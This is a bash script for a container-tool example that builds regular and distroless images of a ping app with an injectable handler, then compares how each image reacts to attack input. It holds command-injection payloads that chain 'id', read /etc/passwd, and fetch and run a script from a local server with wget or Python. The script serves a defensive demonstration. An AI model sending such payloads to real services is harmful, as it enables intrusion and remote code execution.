#!/usr/bin/env bash
# The distroless experiment in one command: builds the ping app twice (a
# regular Debian minbase image and a distroless one), runs both with
# `distill run`, sends the same injection payloads to the vulnerable handler
# and a plain ping to the safe one, prints what each container did, then
# `distill compare` of the two images. Needs root, runc, mmdebstrap, curl.
#
#   examples/ping-app/run.sh [OUT_DIR]
#
# OUT_DIR (default: a temporary folder, removed afterwards) keeps the images,
# the answers (answers/<image>-<n>.json) and report.html.
# Environment: DISTILL (default build/release/src/distill), DISTILL_FLAGS
# (extra global options, e.g. "--cache-dir /tmp/c"), MIRROR (for mmdebstrap).
set -euo pipefail

die() { echo "run.sh: $*" >&2; exit 1; }
here=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
repo_root=$(cd "$here/../.." && pwd)
distill=${DISTILL:-$repo_root/build/release/src/distill}
[[ -x "$distill" ]] || die "distill binary not found: $distill (build it or set DISTILL)"
for tool in runc mmdebstrap curl python3; do
  command -v "$tool" >/dev/null || die "$tool is needed"
done
[[ $(id -u) -eq 0 ]] || die "needs root (distill run uses runc)"

if [[ $# -ge 1 ]]; then
  out=$1
  mkdir -p "$out"
else
  out=$(mktemp -d "${TMPDIR:-/tmp}/ping-app.XXXXXX")
  trap 'rm -rf "$out"' EXIT
fi
out=$(cd "$out" && pwd)
mkdir -p "$out/answers"
# shellcheck disable=SC2206  # DISTILL_FLAGS is a list of options
flags=(${DISTILL_FLAGS:-})

echo "== building the distroless image" >&2
# --allow-outside: the spec takes the app from ../app, which it shares with regular/.
"$distill" "${flags[@]}" build -f "$here/distroless/distill.yaml" -o "$out/distroless" \
  -t ping-app:distroless --allow-outside >&2
echo "== building the regular image (mmdebstrap minbase)" >&2
rm -f "$out/regular.tar"
"$here/regular/build.sh" "$out/regular.tar"
rm -rf "$out/regular"
"$distill" "${flags[@]}" import "$out/regular.tar" -o "$out/regular" -t ping-app:regular \
  --config-from "$out/distroless" >&2

# A file server for the download payload: what an attacker would fetch.
mkdir -p "$out/www"
printf 'echo downloaded-and-ran-as-$(id -u)\n' >"$out/www/payload.sh"
python3 -m http.server --bind 127.0.0.1 --directory "$out/www" 18099 >/dev/null 2>&1 &
pids=($!)
# shellcheck disable=SC2317  # called by the EXIT trap
stop() { for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done; wait 2>/dev/null || true; }
trap 'stop; [[ $# -ge 1 ]] || rm -rf "$out"' EXIT

declare -A port=([regular]=18080 [distroless]=18081)
for name in regular distroless; do
  "$distill" run --network host --cap-add NET_RAW -e "PORT=${port[$name]}" "$out/$name" \
    >"$out/$name.log" 2>&1 &
  pids+=($!)
done
for name in regular distroless; do
  for _ in $(seq 1 100); do
    curl -fs "http://127.0.0.1:${port[$name]}/safe-ping?host=127.0.0.1" >/dev/null 2>&1 && break
    sleep 0.3
  done
done

payloads=("127.0.0.1; id" "127.0.0.1 && cat /etc/passwd"
          "127.0.0.1; \$(wget -qO- http://127.0.0.1:18099/payload.sh)"
          "127.0.0.1; python3 -c 'import urllib.request as u; print(u.urlopen(\"http://127.0.0.1:18099/payload.sh\").read().decode())' | sh")
# ask NAME HANDLER HOST FILE: sends host=HOST to NAME's HANDLER, keeps the
# JSON answer in FILE and prints what came back (the error, or the output).
ask() {
  curl -s -G --data-urlencode "host=$3" "http://127.0.0.1:${port[$1]}/$2" >"$4" || true
  echo "--- /$2?host=$3"
  python3 -c 'import json, sys
d = json.load(open(sys.argv[1]))
print(d.get("error") or "exit %s: %s" % (d["exit_code"], (d["stdout"] + d["stderr"]).strip()))' \
    "$4" 2>/dev/null || cat "$4"
}
for name in regular distroless; do
  echo
  echo "===== $name image (port ${port[$name]}) ====="
  n=0
  for p in "${payloads[@]}"; do
    n=$((n + 1))
    ask "$name" ping "$p" "$out/answers/$name-$n.json"
  done
  ask "$name" safe-ping 127.0.0.1 "$out/answers/$name-safe.json"
done
stop
pids=()

echo
echo "===== distill compare regular distroless ====="
"$distill" "${flags[@]}" compare "$out/regular" "$out/distroless" --html "$out/report.html"
echo "HTML report: $out/report.html" >&2
